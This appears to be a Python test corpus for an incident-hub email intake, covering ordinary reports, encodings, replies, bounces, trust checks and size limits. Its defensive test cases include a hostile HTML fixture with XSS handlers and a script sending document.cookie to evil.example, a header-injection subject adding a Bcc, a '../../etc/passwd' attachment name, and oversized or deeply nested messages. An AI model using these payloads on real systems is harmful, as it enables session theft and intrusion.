"""The corpus cases (see __init__): ordinary mail, replies, bounces, automatic mail, attacks."""

from __future__ import annotations

from email.message import EmailMessage
from email.policy import SMTP

from tests.email_corpus import DATE, DOMAIN, INTAKE, Case, World, b64, crlf, mail, raw

OUTLOOK_QUOTE = """

________________________________
From: Major Incident Hub <incidents@northwind.example>
Sent: Tuesday, March 3, 2026 10:00 AM
To: Ben Okafor <ben.okafor@northwind.example>
Subject: [INC-{n}] Payroll is down

## Reply above this line to add to INC-{n} ##
REPORT RECEIVED: INC-{n} (SEV1)
"""
GMAIL_QUOTE = """

On Tue, 3 Mar 2026 at 10:00, Major Incident Hub <incidents@northwind.example> wrote:
> ## Reply above this line to add to INC-{n} ##
> STAKEHOLDER UPDATE: INC-{n}
> Rolled back the change.
"""
APPLE_QUOTE = """

> On 3 Mar 2026, at 10:00, Major Incident Hub <incidents@northwind.example> wrote:
>
> ## Reply above this line to add to INC-{n} ##
> MAJOR INCIDENT DECLARED
"""
HOSTILE_HTML = """<html><head><style>body{background:url(javascript:alert(1))}</style>
<script>document.location='https://evil.example/?'+document.cookie</script></head>
<body onload="alert(1)"><p>The <b>ERP</b> invoicing run is down since 09:00.</p>
<img src="x" onerror="alert(2)"><a href="javascript:alert(3)">click</a>
<iframe src="https://evil.example"></iframe><svg><script>alert(4)</script></svg>
<form action="https://evil.example"><input name=p></form></body></html>"""


# A colleague's reply passes DMARC at the company's own gateway, the one the hub trusts.
PASSED = {"Authentication-Results": f"mx.{DOMAIN}; dkim=pass; dmarc=pass header.from={DOMAIN}"}


def _reply(world: World, sender: str, text: str, quote: str, **kw) -> EmailMessage:
    n = world.incident
    kw["headers"] = {**PASSED, **(kw.get("headers") or {})}
    return mail(f"RE: [INC-{n}] Payroll is down", text + quote.format(n=n), sender=sender, **kw)


def _dsn(world: World, action="failed", status="5.1.1", recipient=None) -> bytes:
    recipient = recipient or world.delivery_to
    mid = world.our_mid()
    return crlf(f"""From: Mail Delivery System <MAILER-DAEMON@mx.{DOMAIN}>
To: {INTAKE}
Subject: Undelivered Mail Returned to Sender
Date: {DATE}
Message-ID: <dsn-{action}-{status}@mx.{DOMAIN}>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="dsn"

--dsn
Content-Type: text/plain

Your message could not be delivered to {recipient}.

--dsn
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.{DOMAIN}

Final-Recipient: rfc822; {recipient}
Original-Recipient: rfc822; {recipient}
Action: {action}
Status: {status}
Diagnostic-Code: smtp; 550 {status} User unknown

--dsn
Content-Type: text/rfc822-headers

From: Major Incident Hub <{INTAKE}>
To: {recipient}
Subject: [INC-{world.incident}] Payroll is down
Message-ID: {mid}

--dsn--
""")


def _nested(depth: int) -> bytes:
    body = "Content-Type: text/plain\n\nhello\n"
    for i in range(depth):
        body = f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n{body}--b{i}--\n'
    return crlf(f"From: Ben <ben.okafor@{DOMAIN}>\nSubject: nested\nMessage-ID: <nest@x>\n{body}")


def _many_parts(count: int) -> bytes:
    parts = "".join(f"--p\nContent-Type: text/plain\n\npart {i}\n" for i in range(count))
    return crlf(
        f"From: Ben <ben.okafor@{DOMAIN}>\nSubject: parts\nMessage-ID: <parts@x>\n"
        f'Content-Type: multipart/mixed; boundary="p"\n\n{parts}--p--\n'
    )


def _attachments(count: int, name="report.pdf") -> bytes:
    msg = mail("ERP invoices failing, logs attached", "See the attached logs.", sender="grace.liu")
    for i in range(count):
        msg.add_attachment(
            b"%PDF-1.4 fake " + bytes([i % 256]) * 100,
            maintype="application",
            subtype="pdf",
            filename=name if count == 1 else f"log-{i}.pdf",
        )
    return raw(msg)


def build(world: World) -> list[Case]:
    """Every case, in processing order."""
    n = world.incident
    anna, ben = "anna.schmidt", "ben.okafor"
    same = f"<same-id@mail.{DOMAIN}>"
    no_id = raw(
        mail("Printer on floor 3 jammed", "Printer jammed again.", sender="julia.costa", mid=False)
    )
    html_reply = mail(
        f"RE: [INC-{n}] Payroll is down",
        None,
        sender=ben,
        html=f"<p>Payroll works again for me.</p><hr><div><p>## Reply above this line "
        f"to add to INC-{n} ##</p><p>old text</p></div>",
        headers={"In-Reply-To": world.our_mid()},
    )
    fwd_attached = mail("Fwd: VPN error", "See the forwarded message.", sender="hannah.becker")
    fwd_attached.add_attachment(mail("VPN error", "GlobalProtect fails with error 12."))
    signed = crlf(f"""From: Ivan <ivan.petrov@{DOMAIN}>
To: {INTAKE}
Subject: Website homepage returns 500
Message-ID: <signed@{DOMAIN}>
MIME-Version: 1.0
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="s"

--s
Content-Type: text/plain; charset=utf-8

The public homepage returns HTTP 500 for everyone.
--s
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Disposition: attachment; filename="smime.p7s"
Content-Transfer-Encoding: base64

{b64(b"not really a signature")}
--s--
""")
    big = raw(mail("Huge attachment", "x" * 100, sender="ivan.petrov"))
    big = big + b"\r\n" + (b"A" * 76 + b"\r\n") * (30 * 1024 * 1024 // 78)
    cases = [
        # -- ordinary new reports -----------------------------------------------------------
        Case(
            "plain",
            raw(
                mail(
                    "Warehouse scanners offline",
                    "All handhelds in Hamburg show offline since 8:00.",
                    sender="hannah.becker",
                )
            ),
            "new",
        ),
        Case(
            "alternative",
            raw(
                mail(
                    "SSO login failing",
                    "Cannot sign in to anything.",
                    html="<p>Cannot sign in to <b>anything</b>.</p>",
                    sender="felix.wagner",
                )
            ),
            "new",
        ),
        Case(
            "html-only",
            raw(
                mail(
                    "Portal slow",
                    None,
                    sender="ivan.petrov",
                    html="<p>The <i>tracking portal</i> is slow.</p>",
                )
            ),
            "new",
            expect_text=["tracking portal is slow"],
        ),
        Case(
            "hostile-html",
            raw(mail("ERP invoicing down", None, sender="elif.yilmaz", html=HOSTILE_HTML)),
            "new",
            expect_text=["invoicing run is down"],
            refuse_text=["<script", "javascript:", "onerror", "document.cookie"],
        ),
        Case(
            "base64",
            raw(
                mail(
                    "Mailbox full",
                    "Exchange says my mailbox is full.",
                    cte="base64",
                    sender="chloe.martin",
                )
            ),
            "new",
            expect_text=["mailbox is full"],
        ),
        Case(
            "quoted-printable",
            raw(
                mail(
                    "Payslip wrong",
                    "Payslip shows 0,00 € — für März.",
                    cte="quoted-printable",
                    sender="david.novak",
                )
            ),
            "new",
            expect_text=["für März"],
        ),
        Case(
            "latin-1",
            raw(
                mail(
                    "Drucker kaputt",
                    "Der Drucker im Büro ist kaputt. Grüße",
                    cte="quoted-printable",
                    charset="iso-8859-1",
                    sender="grace.liu",
                )
            ),
            "new",
            expect_text=["Büro", "Grüße"],
        ),
        Case(
            "windows-1252",
            crlf(
                f"From: Julia <julia.costa@{DOMAIN}>\nSubject: Quotes\n"
                "Message-ID: <cp1252@x>\nContent-Type: text/plain; "
                "charset=windows-1252\nContent-Transfer-Encoding: 8bit\n\n"
            ).replace(b"\r\n\r\n", b"\r\n\r\n\x93smart\x94 quotes\r\n"),
            "new",
            expect_text=["“smart” quotes"],
        ),
        Case(
            "shift-jis",
            raw(
                mail(
                    "Tokyo office",
                    "東京オフィスのVPNが遅い",
                    charset="shift_jis",
                    cte="base64",
                    sender="ivan.petrov",
                )
            ),
            "new",
            expect_text=["東京オフィス"],
        ),
        Case(
            "koi8-r",
            raw(
                mail(
                    "Moscow",
                    "Не работает почта",
                    charset="koi8-r",
                    cte="base64",
                    sender="ivan.petrov",
                )
            ),
            "new",
            expect_text=["Не работает"],
        ),
        Case(
            "unknown-charset",
            crlf(
                f"From: Ivan <ivan.petrov@{DOMAIN}>\nSubject: odd\n"
                "Message-ID: <odd-cs@x>\nContent-Type: text/plain; "
                "charset=x-no-such-charset\n\nplain words\n"
            ),
            "new",
            expect_text=["plain words"],
        ),
        Case(
            "encoded-subject",
            raw(mail("Lohnabrechnung für März fehlt", "Bitte prüfen.", sender="david.novak")),
            "new",
        ),
        Case(
            "encoded-q-latin1",
            crlf(
                f"From: =?iso-8859-1?q?J=FCrgen?= <julia.costa@{DOMAIN}>\n"
                "Subject: =?iso-8859-1?q?Gr=FC=DFe_aus_dem_B=FCro?=\n"
                "Message-ID: <q-latin@x>\n\nhello\n"
            ),
            "new",
        ),
        Case(
            "broken-encoded-word",
            crlf(
                f"From: Ben <{ben}@{DOMAIN}>\nSubject: =?utf-8?b?!!!?= "
                "=?x-bad?q?zz?=\nMessage-ID: <badew@x>\n\nhello\n"
            ),
            "new",
        ),
        Case(
            "8bit-no-cte",
            crlf(
                f"From: Ben <{ben}@{DOMAIN}>\nSubject: raw utf8\nMessage-ID: "
                "<8bit@x>\nContent-Type: text/plain; charset=utf-8\n\nÜmlaut "
                "straight\n"
            ),
            "new",
            expect_text=["Ümlaut straight"],
        ),
        Case(
            "bare-lf",
            (
                f"From: Ben <{ben}@{DOMAIN}>\nSubject: bare LF\nMessage-ID: <lf@x>\n\n"
                "lines end in LF only\n"
            ).encode(),
            "new",
        ),
        Case(
            "nul-bytes",
            crlf(
                f"From: Ben <{ben}@{DOMAIN}>\nSubject: nul\nMessage-ID: <nul@x>\n\n"
                "before\x00after\n"
            ),
            "new",
        ),
        Case("empty-body", raw(mail("Teams calls dropping", "", sender="chloe.martin")), "new"),
        Case("no-subject-no-body", raw(mail("", "", sender="chloe.martin")), "new"),
        Case("calendar", raw(_calendar()), "new"),
        Case("smime-signed", signed, "new", expect_text=["returns HTTP 500"]),
        Case(
            "forwarded-inline",
            raw(
                mail(
                    "Fwd: ADP payroll export failed",
                    "FYI\n\n---------- "
                    "Forwarded message ---------\nFrom: ADP <noreply@adp"
                    ".example>\nSubject: export failed\n\nThe payroll "
                    "export failed.",
                    sender="elif.yilmaz",
                )
            ),
            "new",
        ),
        Case("forwarded-attached", raw(fwd_attached), "new"),
        Case("attachment-traversal", _attachments(1, name="../../etc/passwd"), "new"),
        Case("attachments-capped", _attachments(25), "new"),
        # -- duplicates and missing ids -----------------------------------------------------
        Case("no-message-id", no_id, "new"),
        Case("no-message-id-again", no_id, "duplicate", step="dedupe"),
        Case(
            "same-id-first",
            raw(mail("Wi-Fi down on floor 2", "No wifi.", mid=same, sender="julia.costa")),
            "new",
        ),
        Case(
            "same-id-other-body",
            raw(mail("Something else", "Different.", mid=same, sender="julia.costa")),
            "duplicate",
            step="dedupe",
        ),
        Case(
            "same-id-other-case",
            raw(mail("Again", "Again.", mid=same.upper(), sender="julia.costa")),
            "duplicate",
            step="dedupe",
        ),
        # -- replies ------------------------------------------------------------------------
        Case(
            "outlook-reply-token",
            raw(
                _reply(
                    world,
                    ben,
                    "Still broken for the Berlin team.",
                    OUTLOOK_QUOTE,
                    to=world.reply_to(f"{ben}@{DOMAIN}"),
                )
            ),
            "threaded",
            expect_text=["Still broken for the Berlin team."],
            refuse_text=["Sent: Tuesday"],
        ),
        Case(
            "gmail-reply-in-reply-to",
            raw(
                _reply(
                    world,
                    "chloe.martin",
                    "Comms are out.",
                    GMAIL_QUOTE,
                    headers={"In-Reply-To": world.our_mid(), "References": world.root()},
                )
            ),
            "threaded",
            expect_text=["Comms are out."],
            refuse_text=["> STAKEHOLDER"],
        ),
        Case(
            "apple-mail-reply",
            raw(
                _reply(
                    world,
                    ben,
                    "Thanks, noted.",
                    APPLE_QUOTE,
                    headers={"References": f"{world.root()}"},
                )
            ),
            "threaded",
            expect_text=["Thanks, noted."],
        ),
        Case(
            "html-outlook-reply",
            raw(html_reply),
            "threaded",
            expect_text=["Payroll works again for me."],
            refuse_text=["old text"],
        ),
        Case(
            "only-quoted-reply",
            raw(
                _reply(
                    world, ben, "", "\n> only the quote\n", headers={"In-Reply-To": world.our_mid()}
                )
            ),
            "threaded",
        ),
        Case(
            "mim-ack",
            raw(_reply(world, anna, "ACK", GMAIL_QUOTE, to=world.reply_to(f"{anna}@{DOMAIN}"))),
            "threaded",
        ),
        Case(
            "mim-update",
            raw(
                _reply(
                    world,
                    anna,
                    "UPDATE: Rolled back the payroll release.",
                    GMAIL_QUOTE,
                    headers={"In-Reply-To": world.our_mid()},
                )
            ),
            "threaded",
            expect_text=["Rolled back the payroll release."],
        ),
        Case(
            "non-holder-update",
            raw(
                _reply(
                    world,
                    "julia.costa",
                    "UPDATE: I think it is fixed",
                    GMAIL_QUOTE,
                    headers={"In-Reply-To": world.our_mid()},
                )
            ),
            "threaded",
            expect_text=["UPDATE: I think it is fixed"],
        ),
        Case(
            "subject-tag-participant",
            raw(mail(f"[INC-{n}] more details", "It started at 8.", sender=ben)),
            "threaded",
            expect_text=["It started at 8."],
        ),
        Case(
            "subject-tag-stranger",
            raw(mail(f"[INC-{n}] let me in", "Hello.", sender="grace.liu")),
            "new",
        ),
        Case(
            "forwarded-token-stranger",
            raw(
                mail(
                    f"RE: [INC-{n}] Payroll",
                    "I got this fwd.",
                    sender="felix.wagner",
                    to=world.reply_to(f"{ben}@{DOMAIN}"),
                )
            ),
            "new",
        ),
        Case(
            "forged-message-id",
            raw(
                mail(
                    "RE: payroll",
                    "Forged reference.",
                    sender="felix.wagner",
                    headers={
                        "In-Reply-To": f"<inc-{n}.m.aaaaaaaaaaaaaaaa.bbbbbbbbbbbb@mihub.{DOMAIN}>"
                    },
                )
            ),
            "new",
        ),
        # -- our own mail, bounces, automatic mail -------------------------------------------
        Case(
            "own-message-id",
            raw(mail("[INC-1] loop", "ours", mid=world.our_mid("other-key"), sender="julia.costa")),
            "ignored",
            step="loop",
        ),
        Case(
            "own-loop-header",
            raw(mail("loop", "ours", sender="julia.costa", headers={"X-Mihub-Loop": _loop(world)})),
            "ignored",
            step="loop",
        ),
        Case(
            "own-address",
            raw(mail("loop", "ours", sender=f"Hub <{INTAKE}>")),
            "ignored",
            step="loop",
        ),
        Case("dsn-failed", _dsn(world), "ignored", step="bounce"),
        Case(
            "dsn-delayed",
            _dsn(world, action="delayed", status="4.4.7", recipient=f"chloe.martin@{DOMAIN}"),
            "ignored",
            step="bounce",
        ),
        Case(
            "exim-bounce",
            crlf(
                f"From: Mail Delivery System <Mailer-Daemon@mx.{DOMAIN}>\n"
                f"To: {INTAKE}\nSubject: Mail delivery failed\nMessage-ID: "
                f"<exim@mx>\nX-Failed-Recipients: exec-team@{DOMAIN}\n\n"
                "SMTP error from remote mail server after RCPT TO:<exec-team@"
                f"{DOMAIN}>:\n550 5.1.1 no such user\n\n------ This is a copy "
                f"of the message\n\nMessage-ID: {world.our_mid('x')}\n"
            ),
            "ignored",
            step="bounce",
        ),
        Case(
            "daemon-null-path",
            crlf(
                f"Return-Path: <>\nFrom: postmaster@mx.{DOMAIN}\nSubject: "
                "failure notice\nMessage-ID: <qmail@mx>\n\nSorry, 5.2.2 "
                "mailbox full.\n"
            ),
            "ignored",
            step="bounce",
        ),
        Case(
            "oof-auto-submitted",
            raw(
                _reply(
                    world,
                    "julia.costa",
                    "I am out of office.",
                    "",
                    headers={"Auto-Submitted": "auto-replied", "In-Reply-To": world.our_mid()},
                )
            ),
            "ignored",
            step="automatic",
            refuse_text=["out of office"],
        ),
        Case(
            "oof-x-autoreply",
            raw(
                mail(
                    "Automatic reply: payroll",
                    "Away",
                    sender="david.novak",
                    headers={"X-Autoreply": "yes"},
                )
            ),
            "ignored",
            step="automatic",
        ),
        Case(
            "precedence-bulk",
            raw(mail("Newsletter", "News", sender="julia.costa", headers={"Precedence": "bulk"})),
            "ignored",
            step="automatic",
        ),
        Case(
            "precedence-junk",
            raw(mail("Junk", "x", sender="julia.costa", headers={"Precedence": "junk"})),
            "ignored",
            step="automatic",
        ),
        Case(
            "mailing-list",
            raw(
                mail(
                    "[it-ops] payroll down?",
                    "Is payroll down?",
                    sender="julia.costa",
                    headers={"List-Id": "IT ops <it-ops.northwind.example>", "Precedence": "list"},
                )
            ),
            "ignored",
            step="automatic",
        ),
        # -- sender trust ---------------------------------------------------------------------
        Case(
            "outsider",
            raw(mail("Payroll down", "Hi", sender="Mallory <m@evil.example>")),
            "quarantined",
            step="trust",
        ),
        Case(
            "two-from",
            crlf(f"From: a@{DOMAIN}, b@{DOMAIN}\nSubject: two\nMessage-ID: <two@x>\n\nx\n"),
            "quarantined",
            step="trust",
        ),
        Case(
            "no-from",
            crlf("Subject: nobody\nMessage-ID: <nofrom@x>\n\nx\n"),
            "quarantined",
            step="trust",
        ),
        Case("not-mail-at-all", b"\x00\x01\x02 this is not an email \xff\xfe", "quarantined"),
        Case(
            "dmarc-fail",
            raw(
                mail(
                    "Payroll",
                    "spoof",
                    sender="felix.wagner",
                    headers={
                        "Authentication-Results": f"mx.{DOMAIN}; spf=fail;"
                        " dkim=none; dmarc=fail header.from=" + DOMAIN
                    },
                )
            ),
            "quarantined",
            step="trust",
        ),
        Case(
            "dmarc-fail-untrusted",
            raw(
                mail(
                    "VPN drops",
                    "drops",
                    sender="felix.wagner",
                    headers={"Authentication-Results": "mx.evil; dmarc=fail"},
                )
            ),
            "new",
        ),
        Case(
            "dmarc-pass",
            raw(
                mail(
                    "Mail server slow",
                    "slow",
                    sender="felix.wagner",
                    headers={
                        "Authentication-Results": f"mx.{DOMAIN} 1; "
                        "dkim=pass; dmarc=pass (p=reject) header.from=" + DOMAIN
                    },
                )
            ),
            "new",
        ),
        Case(
            "header-injection",
            crlf(
                f"From: Julia <julia.costa@{DOMAIN}>\nSubject: =?utf-8?q?"
                "Payroll=0D=0ABcc:_evil@evil.example?=\nMessage-ID: "
                "<inject@x>\n\nx\n"
            ),
            "new",
            refuse_text=["\nBcc:"],
        ),
        # -- limits ---------------------------------------------------------------------------
        Case("thirty-mb", big, "ignored", step="limits"),
        Case("two-hundred-parts", _many_parts(200), "ignored", step="limits"),
        Case("deep-nesting", _nested(50), "ignored", step="limits"),
        Case(
            "huge-header-block",
            crlf(
                f"From: Ben <{ben}@{DOMAIN}>\nSubject: big\n"
                + "".join(f"X-Pad-{i}: {'p' * 70}\n" for i in range(1000))
                + "\nbody\n"
            ),
            "ignored",
            step="limits",
        ),
        Case(
            "long-header-field",
            crlf(f"From: Ben <{ben}@{DOMAIN}>\nSubject: " + "=?utf-8?q?a?= " * 2000 + "\n\nbody\n"),
            "ignored",
            step="limits",
        ),
    ]
    return cases


def _loop(world: World) -> str:
    from hub.channels.email.ids import loop_token

    return loop_token(world.secret)


def _calendar() -> EmailMessage:
    msg = mail("Invitation: payroll bridge", "You are invited.", sender="anna.schmidt")
    msg.add_alternative("BEGIN:VCALENDAR\nMETHOD:REQUEST\nEND:VCALENDAR\n", subtype="calendar")
    return msg


def corpus_messages(world: World) -> list[EmailMessage]:
    """The corpus parsed back (for a look in a shell)."""
    from email.parser import BytesParser

    return [BytesParser(policy=SMTP).parsebytes(c.raw) for c in build(world)]
